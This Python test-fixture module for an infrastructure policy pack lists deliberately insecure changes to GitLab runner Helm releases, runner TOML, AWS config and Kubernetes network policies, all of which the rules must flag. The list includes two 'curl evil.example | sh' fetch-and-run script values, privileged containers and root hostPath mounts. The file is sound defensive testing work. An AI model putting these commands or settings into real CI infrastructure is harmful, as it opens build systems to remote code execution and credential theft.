"""Changes of a release, of a class's AWS config and of its network policies that the policy pack must report.

Each is a change of one resource of the unchanged program, so that no program has to run for it. `python -m tests.attacks` and the unit
tests of the rules take them from here.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from policies.fields import ABSENT
from tests.support.policy_cases import resource_named, with_input, with_toml

if TYPE_CHECKING:
    from access.resource import Resource

SMALL, DEPLOY = "small-runner-release", "deploy-runner-release"
SMALL_CONFIG, DEPLOY_CONFIG = "small-runner-aws-config", "deploy-runner-aws-config"
CONFIG, FILE = "values.runners.config", "data.config"
PROD = "arn:aws:iam::444444444444:role/cicd/delegated-role"


@dataclass(frozen=True, kw_only=True)
class ReleaseChange:
    """A change of one resource."""

    kind: str
    """Row of the table of kinds."""
    place: str
    """`toml <path>` in the one `[[runners]]`, `text <path>` to replace or append text, or the path of an input."""
    value: Any
    """A value, ABSENT, or for a text `(old, new)`; an empty `old` appends."""
    rules: frozenset[str]
    resource: str = SMALL

    @property
    def name(self) -> str:
        """Name of the test case."""
        value = "absent" if self.value is ABSENT else repr(self.value)
        return f"{self.resource}: {self.place} = {value}"[:120]

    def of(self, resource: Resource) -> Resource:
        """Return the changed resource."""
        form, _, path = self.place.rpartition(" ")
        if form == "toml":
            return with_toml(resource, path, self.value)
        if form == "text":
            old, new = self.value
            text = _at(resource.inputs, path)
            assert old in text, f"{old!r} is not in {path}"
            return with_input(resource, path, text.replace(old, new) if old else f"{text}{new}")
        return with_input(resource, path, self.value)

    def applied(self) -> Resource:
        """Return the program's resource with the change."""
        return self.of(resource_named("prod", self.resource))


def _at(value: Any, path: str) -> Any:
    for key in path.split("."):
        value = value[key]
    return value


def _changes(kind: str, resource: str, *cases: tuple[str, str, Any]) -> list[ReleaseChange]:
    return [
        ReleaseChange(kind=kind, resource=resource, rules=frozenset(rules.split()), place=place, value=value)
        for rules, place, value in cases
    ]


def _text(old: str, new: str) -> tuple[str, str]:
    return (old, new)


PRIVILEGED = "privileged = false\n"
KUBERNETES = "[runners.kubernetes]\n"
SPELLINGS = _changes(
    "keys of TOML in other case",
    SMALL,
    ("R01 R10", f"text {CONFIG}", (PRIVILEGED, "Privileged = true\n")),
    ("R01 R10", f"text {CONFIG}", (PRIVILEGED, f"{PRIVILEGED}Privileged = true\n")),
    ("R01 R10", f"text {CONFIG}", (PRIVILEGED, f"PRIVILEGED = true\n{PRIVILEGED}")),
    ("R01 R10", f"text {CONFIG}", (PRIVILEGED, f'{PRIVILEGED}"priv\\u0049leged" = true\n')),
    ("R01 R10", f"text {CONFIG}", ("", "\n[runners.Kubernetes]\nprivileged = true\n")),
    ("R01 R10", f"text {CONFIG}", ("", '\n[runners."\\u212Aubernetes"]\nprivileged = true\n')),
    ("R10", f"text {CONFIG}", ("[runners.kubernetes", "[runners.KUBERNETES")),
    ("R01 R02 R03 R04 R05 R09 R10", f"text {CONFIG}", ("", "\n[[Runners]]\n[Runners.kubernetes]\nprivileged = true\n")),
    ("R10", f"text {CONFIG}", ("runners", "Runners")),
    ("R05 R10", f"text {CONFIG}", (KUBERNETES, f'{KUBERNETES}Service_Account = "manager"\n')),
    ("R05 R10", f"text {CONFIG}", (KUBERNETES, f'{KUBERNETES}"name\\u017Fpace" = "jobs-deploy"\n')),
    ("R02 R10", f"text {CONFIG}", (KUBERNETES, f'{KUBERNETES}Namespace_Overwrite_Allowed = ".*"\n')),
    ("R04 R10", f"text {CONFIG}", (KUBERNETES, f'{KUBERNETES}Pull_Policy = ["never"]\n')),
    ("R10", f"text {CONFIG}", (KUBERNETES, f"{KUBERNETES}Volumes = {{}}\n")),
    ("R10", f"text {CONFIG}", (KUBERNETES, f"{KUBERNETES}Node_Selector = {{}}\n")),
    ("S02 R10", f"text {CONFIG}", ('Path = "small"\n', 'path = "deploy"\n')),
    ("R10", f"text {CONFIG}", ("FF_CONCRETE = false", "ff_concrete = true")),
    ("R10", f"text {CONFIG}", ("[[runners]]\n", '[[runners]]\nClone_URL = "https://evil.example"\n')),
    ("R10", f"text {CONFIG}", ("[[runners]]\n", "[[runners]]\nEnvironment = []\n")),
)  # fmt: skip
EMPTY = [
    *_changes(
        "empty lists",
        DEPLOY,
        ("R04", "toml kubernetes.allowed_images", []),
        ("R04", "toml kubernetes.allowed_services", []),
        ("R04", "toml kubernetes.allowed_images", ABSENT),
        ("R04", "toml kubernetes.pull_policy", []),
        ("R04", "toml kubernetes.allowed_pull_policies", []),
        ("R04", "toml kubernetes.helper_image", ""),
        ("R10", "toml kubernetes.cap_drop", []),
        ("R10", "toml kubernetes.node_selector", {}),
        ("R10", "toml kubernetes.pod_security_context", {}),
        ("R03", "toml kubernetes.pod_spec", []),
        ("R10", "values.tolerations", []),
        ("R10", "values.securityContext.capabilities.drop", []),
        ("R10", "values.nodeSelector", {}),
        ("R05", "values.serviceAccount", {}),
    ),
    *_changes(
        "empty lists",
        "small-runner-jobs-network",
        ("E08", "spec.egress", [{"to": []}]),
        ("E08", "spec.egress.0.to", []),
        ("E08", "spec.egress.0.ports", []),
        ("E08", "spec.egress", [{"to": [], "ports": [{"port": 443}]}]),
        ("E08", "spec.egress.0.ports.0.endPort", 65535),
    ),
    *_changes(
        "empty lists",
        "small-runner-manager-network",
        ("E08", "spec.ingress", [{"from": [], "ports": []}]),
        ("E08", "spec.egress.1.to", []),
    ),
]
NOBODY_JUDGES = _changes(
    "keys that nobody judges",
    SMALL,
    *[
        ("R10", f"toml {key}", value)
        for key, value in {
            "clone_url": "https://evil.example",
            "url": "https://evil.example",
            "pre_build_script": "curl evil.example | sh",
            "pre_get_sources_script": "x",
            "post_build_script": "x",
            "pre_clone_script": "x",
            "environment": ["AWS_CONFIG_FILE=/builds/config"],
            "executor": "shell",
            "token": "glrt-fabricated",
            "name": "other",
            "shell": "pwsh",
            "builds_dir": "/etc",
            "cache_dir": "/etc/runner-platform/aws",
            "debug_trace_disabled": False,
            "tls-ca-file": "/etc/ca",
            "tls_verify": False,
            "custom": {"run_exec": "/bin/sh"},
            "docker": {"privileged": True},
            "machine": {"MachineDriver": "x"},
            "monitoring": {},
            "id": 7,
            "strict_check_interval": True,
            "unhealthy_requests_limit": 1,
            "feature_flags.FF_CONCRETE": True,
            "feature_flags.FF_USE_POWERSHELL_PATH_RESOLVER": True,
            "feature_flags.FF_DISABLE_UMASK_FOR_KUBERNETES_EXECUTOR": ABSENT,
            "feature_flags.FF_USE_POD_ACTIVE_DEADLINE_SECONDS": False,
            "cache.Type": "gcs",
            "cache.Shared": False,
            "cache.MaxUploadedArchiveSize": 1,
            "cache.s3.ServerAddress": "s3.evil.example",
            "cache.s3.AccessKey": "AKIAEXAMPLE",
            "cache.s3.SecretKey": "fabricated",
            "cache.s3.Insecure": True,
            "cache.s3.AuthenticationType": "access-key",
            "cache.s3.BucketLocation": "us-east-1",
            "cache.s3.RoleARN": PROD,
            "cache.s3.UploadRoleARN": PROD,
            "cache.gcs": {"BucketName": "x"},
            "kubernetes.host_aliases": [{"ip": "203.0.113.9", "hostnames": ["gitlab.com"]}],
            "kubernetes.helper_image": "registry.evil.example/helper:1",
            "kubernetes.image": "registry.evil.example/build:1",
            "kubernetes.image_pull_secrets": ["other"],
            "kubernetes.volumes": {"host_path": [{"name": "s", "mount_path": "/s", "host_path": "/var/run"}]},
            "kubernetes.node_selector": {"runner-platform/class": "managers"},
            "kubernetes.node_tolerations": {"runner-platform/class=managers": "NoSchedule"},
            "kubernetes.node_tolerations.runner-platform/class=deploy": "NoSchedule",
            "kubernetes.affinity": {"node_affinity": {}},
            "kubernetes.dns_policy": "default",
            "kubernetes.dns_config": {"nameservers": ["203.0.113.9"]},
            "kubernetes.services": [{"name": "evil.example/x:1"}],
            "kubernetes.container_lifecycle": {"post_start": {"exec": {"command": ["x"]}}},
            "kubernetes.pod_labels": {"runner-platform/class": "deploy"},
            "kubernetes.pod_annotations.eks.amazonaws.com/skip": "x",
            "kubernetes.runtime_class_name": "x",
            "kubernetes.priority_class_name": "system-node-critical",
            "kubernetes.scheduler_name": "x",
            "kubernetes.namespace_per_job": True,
            "kubernetes.use_service_account_image_pull_secrets": True,
            "kubernetes.cap_add": ["SYS_ADMIN"],
            "kubernetes.cap_drop": ["CHOWN"],
            "kubernetes.services_privileged": True,
            "kubernetes.build_container_security_context": {"privileged": True},
            "kubernetes.helper_container_security_context": {"run_as_user": 0},
            "kubernetes.pod_security_context.seccomp_profile.type": "Unconfined",
            "kubernetes.pod_security_context.supplemental_groups": [0],
            "kubernetes.host": "https://evil.example",
            "kubernetes.bearer_token": "fabricated",
            "kubernetes.cert_file": "/etc/x",
            "kubernetes.allowed_users": ["root"],
            "kubernetes.allowed_groups": [],
            "kubernetes.cpu_limit": "0",
            "kubernetes.memory_limit": "",
            "kubernetes.cpu_request_overwrite_max_allowed": "64",
            "kubernetes.memory_limit_overwrite_max_allowed": "640Gi",
            "kubernetes.poll_timeout": 100000,
            "kubernetes.pod_disruption_budget": True,
            "kubernetes.autoscaler": {},
            "kubernetes.logs_base_dir": "/etc",
            "kubernetes.scripts_base_dir": "/builds",
            "kubernetes.helper_image_flavor": "ubuntu",
        }.items()
    ],
    ("R05", "toml kubernetes.automount_service_account_token", ABSENT),
    ("R03", "toml kubernetes.pod_spec.0.patch", "volumes: [{hostPath: {path: /}}]\n"),
    ("R03", f"text {CONFIG}", _text('patch = """\n', 'patch = """\nvolumes: [{name: x, hostPath: {path: /}}]\n')),
    ("R02", "toml kubernetes.bearer_token_overwrite_allowed", True),
    ("R10", f"text {CONFIG}", _text("[[runners]]", "concurrent = 900\n[[runners]]")),
    ("R10", f"text {CONFIG}", _text("[[runners]]", 'log_level = "debug"\n[[runners]]')),
    ("R10", f"text {CONFIG}", _text("", '\n[session_server]\nlisten_address = "0.0.0.0:8093"\n')),
)  # fmt: skip
VALUES = _changes(
    "Helm values",
    SMALL,
    *[
        ("R10", f"values.{key}", value)
        for key, value in {
            "gitlabUrl": "https://gitlab.evil.example",
            "runners.secret": "other-secret",
            "runners.name": "deploy",
            "runners.executor": "shell",
            "runners.privileged": True,
            "runners.tags": "deploy",
            "runners.configPath": "x",
            "runners.configOverride": "x",
            "runners.cache": {"secretName": "other"},
            "hostAliases": [{"ip": "203.0.113.9", "hostnames": ["gitlab.com"]}],
            "envVars": [{"name": "KUBERNETES_PRIVILEGED", "value": "true"}],
            "extraEnv": {"CI_SERVER_URL": "https://gitlab.evil.example"},
            "extraEnvFrom": {"X": {"secretKeyRef": {}}},
            "extraEnvFromRefs": [{"secretRef": {"name": "other"}}],
            "image": {"registry": "registry.evil.example"},
            "imagePullSecrets": [{"name": "other"}],
            "imagePullPolicy": "Never",
            "preEntrypointScript": "curl evil.example | sh",
            "extraObjects": [{"kind": "ClusterRoleBinding"}],
            "extraContainers": [{"name": "x", "image": "evil.example/x"}],
            "initContainers": [{"name": "x", "image": "evil.example/x"}],
            "deploymentLifecycle": {"postStart": {"exec": {"command": ["x"]}}},
            "configMaps": {"x": "y"},
            "secrets": [{"name": "other"}],
            "volumes": [{"name": "x", "hostPath": {"path": "/"}}],
            "volumeMounts": [{"name": "x", "mountPath": "/home/gitlab-runner"}],
            "hostNetwork": True,
            "hostPID": True,
            "nodeSelector": {"runner-platform/class": "deploy"},
            "tolerations": [{"operator": "Exists"}],
            "affinity": {"nodeAffinity": {}},
            "podLabels.team": "x",
            "podAnnotations.other": "x",
            "podAnnotations.runner-platform/token-sha256": '{{ lookup "v1" "Secret" "runner-small" "runner-token" }}',
            "priorityClassName": "system-cluster-critical",
            "runtimeClassName": "x",
            "schedulerName": "x",
            "service": {"enabled": True},
            "sessionServer": {"enabled": True},
            "namespace": "kube-system",
            "certsSecretName": "other-ca",
            "runnerToken": "glrt-fabricated",
            "runnerRegistrationToken": "x",
            "concurrent": 900,
            "replicas": 50,
            "fullnameOverride": "gitlab-runner-deploy",
            "rbac.rules": [{"resources": ["*"]}],
            "rbac.serviceAccountName": "admin",
            "rbac.podSecurityPolicy": {"enabled": True},
            "serviceAccount.annotations": {"eks.amazonaws.com/role-arn": PROD},
            "podSecurityContext.runAsUser": 0,
            "podSecurityContext.sysctls": [{"name": "x"}],
            "securityContext.runAsNonRoot": "true",
            "securityContext.capabilities.add": ["SYS_ADMIN"],
            "securityContext.seccompProfile": {"type": "Unconfined"},
            "logLevel": "debug",
            "metrics.podMonitor": {"enabled": True},
            "hpa": {"maxReplicas": 100},
            "useTini": True,
        }.items()
    ],
    ("R01", "values.securityContext.privileged", True),
    ("R01", "values.securityContext.allowPrivilegeEscalation", ABSENT),
    ("R05", "values.rbac.create", "false"),
    ("R05", "values.rbac.clusterWideAccess", "yes"),
    ("R05", "values.serviceAccount.create", "false"),
    ("R05", "values.serviceAccount.name", "default"),
)  # fmt: skip
INPUTS = _changes(
    "the chart and other inputs of the release",
    SMALL,
    ("R07", "chart", "oci://registry.evil.example/gitlab-runner"),
    ("R07", "version", "0.1.0"),
    ("R07", "version", ABSENT),
    ("R07", "repositoryOpts.repo", "https://charts.evil.example"),
    ("R10", "repositoryOpts.caFile", "/etc/ca"),
    ("R10", "repositoryOpts.username", "x"),
    ("R10", "valueYamlFiles", ["more.yaml"]),
    ("R10", "postrender", "./change"),
    ("R10", "set", [{"name": "x"}]),
    ("R10", "skipCrds", True),
    ("R10", "reuseValues", True),
    ("R10", "allowNullValues", True),
    ("R10", "createNamespace", True),
    ("R10", "dependencyUpdate", True),
    ("R10", "devel", True),
    ("R10", "disableOpenapiValidation", True),
    ("R10", "disableWebhooks", True),
    ("R10", "forceUpdate", True),
    ("R10", "replace", True),
    ("R10", "keyring", "x"),
    ("R10", "name", "gitlab-runner-deploy"),
    ("R05", "namespace", "runner-other"),
)
AWS_CONFIG = [
    *_changes(
        "AWS config of a class",
        SMALL_CONFIG,
        ("T13", f"text {FILE}", _text("", f"\n[profile admin]\nrole_arn = {PROD}\nsource_profile = base\n")),
        ("T13", f"text {FILE}", _text("333333333333:role/cicd/delegated-role-open", "444444444444:role/cicd/delegated-role")),
        ("T13", f"text {FILE}", _text("/etc/runner-platform/aws/token", "/builds/token")),
        ("T13", f"text {FILE}", _text("[default]", "[default]\nservices = x")),
        ("T13", f"text {FILE}", _text("[default]", "[profile default]")),
        ("T13", f"text {FILE}", _text("[profile dev]", '[profile "dev"]')),
        ("T13", f"text {FILE}", _text("[profile dev]", "[dev]")),
        ("T13", f"text {FILE}", _text("sts_regional_endpoints = regional", "sts_regional_endpoints = legacy")),
        ("T13", f"text {FILE}", _text("region = eu-central-1", "region = us-east-1")),
        ("T13", f"text {FILE}", _text("source_profile = base", "source_profile = dev")),
        ("T13", f"text {FILE}", _text("source_profile = base", "credential_source = EcsContainer")),
        *[
            ("T13", f"text {FILE}", _text("[profile base]\n", f"[profile base]\n{key} = x\n"))
            for key in ("credential_process", "endpoint_url", "ca_bundle", "sso_session", "sso_start_url", "aws_access_key_id", "mfa_serial", "external_id", "duration_seconds", "Role_Arn", "web_identity_token_file ")
        ],
        ("T13", f"text {FILE}", _text("", "\n[sso-session x]\nsso_region = x\n")),
        ("T13", f"text {FILE}", _text("", "\n[services x]\nsts =\n  endpoint_url = https://evil.example\n")),
        ("T13", f"text {FILE}", _text("role_session_name = runner-small", "role_session_name = runner-deploy")),
        ("T13", f"text {FILE}", _text("role_arn = arn", "role_arn: arn")),
        ("T13", f"text {FILE}", _text("[profile base]", "# a comment\r[profile base]")),
        ("T13", "data.credentials", "[default]\naws_access_key_id = x\n"),
        ("T13", "binaryData", {"config": "W2RlZmF1bHRd"}),
        ("T13", "metadata.namespace", "jobs-other"),
    ),
    *_changes(
        "AWS config of a class",
        DEPLOY_CONFIG,
        ("T13", f"text {FILE}", _text("[profile prod]", "[profile admin2]")),
        ("T13", f"text {FILE}", _text("444444444444", "111111111111")),
        ("T13", f"text {FILE}", _text("[default]\nrole_arn = arn:aws:iam::222222222222:role/cicd/runner-deploy", f"[default]\nrole_arn = {PROD}")),
    ),
]  # fmt: skip
CHANGES = [*SPELLINGS, *EMPTY, *NOBODY_JUDGES, *VALUES, *INPUTS, *AWS_CONFIG]
